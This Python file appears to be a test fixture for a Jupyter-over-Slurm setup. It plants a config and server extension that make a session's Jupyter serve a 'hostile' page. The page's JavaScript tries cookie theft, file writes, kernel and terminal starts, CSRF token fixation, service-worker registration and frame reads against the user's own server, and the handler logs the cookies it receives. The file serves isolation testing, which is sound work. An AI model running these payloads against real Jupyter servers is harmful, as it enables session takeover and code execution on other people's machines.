"""A hostile node: the Jupyter of a session also serves a page whose scripts attack the user's own Jupyter server.

``FILES`` belong into the home of the user's Jupyter server. Every session that runs with this home then answers
``<base URL>hostile`` with the page. In a browser, ``attack(page, own, other)`` runs its attacks from the page that is
open, and returns those that succeeded.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

__all__ = ["FILES", "WRITTEN", "attack"]

WRITTEN = "written-by-the-node.txt"
"""File that an attack writes into the root of the user's own Jupyter server, if it can."""

_CONFIG = """
import os, sys
if "SLURM_JOB_ID" in os.environ:  # a session, not the user's own server
    sys.path.insert(0, os.path.expanduser("~/.hostile"))
    c.ServerApp.jpserver_extensions = {"hostile_jupyter": True}
"""

_EXTENSION = r'''
from tornado.web import RequestHandler

HEADERS = {
    "Access-Control-Allow-Origin": "*",
    "Clear-Site-Data": '"cookies"',
    "Content-Security-Policy": "default-src * 'unsafe-inline' 'unsafe-eval'",
    "Service-Worker-Allowed": "/",
    "WWW-Authenticate": "Basic",
}
seen = []

class Hostile(RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def get(self, name):
        seen.append(self.request.headers.get("Cookie", ""))
        for header, value in HEADERS.items():
            self.set_header(header, value)
        self.set_cookie("hostile", "1", path="/")
        if name == ".js":
            self.set_header("Content-Type", "text/javascript")
            self.finish("self.addEventListener('fetch', () => undefined);")
        elif name == "-seen":
            self.finish({"cookies": seen})
        else:
            self.finish(PAGE)

def _jupyter_server_extension_points():
    return [{"module": "hostile_jupyter"}]

def _load_jupyter_server_extension(serverapp):
    base = serverapp.base_url
    serverapp.web_app.add_handlers(".*$", [(base + r"hostile(|\.js|-seen)", Hostile)])

PAGE = """<!DOCTYPE html>
<html><head><title>Hostile</title></head><body><script>
async function attack(own, other, written) {
  const done = {};
  const attempt = async (name, act) => {
    try {
      const found = await act();
      if (found) done[name] = String(found).slice(0, 200);
    } catch (error) {
      // refused
    }
  };
  const xsrf = () => (/(?:^|;) *_xsrf=([^;]*)/.exec(document.cookie) || [])[1] || "";
  const send = (path, method, body, more) => fetch(own + path, {
    method, body, credentials: "include", headers: {"X-XSRFToken": xsrf(), "Content-Type": "application/json"}, ...more,
  });
  const file = JSON.stringify({type: "file", format: "text", content: "x"});
  await attempt("read cookies", () => location.host === new URL(own).host && document.cookie);
  await attempt("write a file", async () => (await send("api/contents/" + written, "PUT", file)).ok);
  await attempt("start a kernel", async () => (await send("api/kernels", "POST", "{}")).ok);
  await attempt("start a kernel unseen", async () => {
    const url = own + "api/kernels?_xsrf=" + encodeURIComponent(xsrf());
    await fetch(url, {method: "POST", body: "{}", mode: "no-cors", credentials: "include"});
  });
  await attempt("start a terminal", async () => (await send("api/terminals", "POST", "{}")).ok);
  await attempt("read files", async () => (await send("api/contents", "GET")).ok);
  await attempt("read the page", async () => (await send("lab", "GET")).ok);
  await attempt("use the agent", async () => (await send("jupyter-slurm/api/v1/clusters", "GET")).ok);
  await attempt("use another session", async () => (await send(other.slice(1) + "api/status", "GET")).ok);
  await attempt("use another session unseen", async () => {
    const answer = await send(other.slice(1) + "api/kernels", "POST", "{}");
    return answer.ok;
  });
  await attempt("open a WebSocket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(own.replace("http", "ws") + "api/events/subscribe");
    socket.onopen = () => resolve(true);
    socket.onerror = () => reject(new Error("refused"));
  }));
  await attempt("keep its opener", () => window.opener && window.opener.document.title);
  for (const [name, scope] of [["above it", "/"], ["beside it", own.replace(/^[a-z]+:..[^/]*/, "")]]) {
    await attempt("register a service worker " + name, () => location.host === new URL(own).host &&
      navigator.serviceWorker.register(location.pathname.replace(/[^/]*$/, "hostile.js"), {scope}));
  }
  await attempt("look into a frame", () => new Promise((resolve, reject) => {
    const frame = document.body.appendChild(document.createElement("iframe"));
    frame.onload = () => {
      try { resolve(frame.contentDocument.documentElement.outerHTML); } catch (error) { reject(error); }
    };
    frame.src = own + "lab";
  }));
  await attempt("set a cookie for all", () => {
    const host = own.replace(/^[a-z]+:..([^/:]*).*/, "$1");
    document.cookie = "_xsrf=hostile; path=/; domain=" + host;
    document.cookie = "_xsrf=hostile; path=/";
    return document.cookie.includes("hostile") && location.hostname === host;
  });
  return done;
}
</script></body></html>"""
'''

FILES = {".jupyter/jupyter_config.py": _CONFIG, ".hostile/hostile_jupyter.py": _EXTENSION}
"""Files of the home: every Jupyter that a job runs with this home is hostile."""


def attack(page: Page, own: str, other: str) -> dict[str, str]:
    """Attack the user's own server from an open page of the hostile node.

    Parameters
    ----------
    page : playwright Page
        Page of the hostile node.
    own : str
        URL of the user's own Jupyter server, with a slash at the end.
    other : str
        Path of another session on that server.

    Returns
    -------
    dict
        Attacks that succeeded, by name.
    """
    found: dict[str, str] = page.evaluate(
        "([own, other, written]) => attack(own, other, written)", [own, other, WRITTEN]
    )
    return found
